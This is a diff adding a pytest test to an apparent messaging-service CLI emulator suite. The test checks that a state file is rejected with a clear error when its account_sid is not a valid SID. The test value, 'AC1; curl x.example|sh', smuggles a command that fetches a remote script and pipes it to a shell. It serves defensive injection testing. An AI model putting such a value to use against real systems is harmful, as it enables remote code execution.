@@ -360,3 +360,16 @@ def test_a_full_tmpfs_at_exit_is_one_line_and_exit_1(tmp_path):
             assert again.stop() == 0
     finally:
         subprocess.run(["umount", "-l", str(mount)], check=False)
+
+
+def test_a_state_file_whose_account_sid_is_not_one_is_refused(tmp_path, msgsvc):
+    """Its account SID is pasted into the profile command the emulator prints."""
+    path = tmp_path / "state.json"
+    emu = start_emulator(numbers=1, path=path)
+    stop_emulator(emu)
+    data = json.loads(path.read_text())
+    path.write_text(json.dumps({**data, "account_sid": "AC1; curl x.example|sh"}))
+    result = msgsvc("emulator", "--state", str(path), "--port", "0")
+    assert (result.code, result.out) == (2, "")
+    assert result.err == (f"msgsvc: the state file {path} holds an account_sid that is not an Account SID\n"
+                          "hint: give another --state file, or move this one away (it is never overwritten)\n")
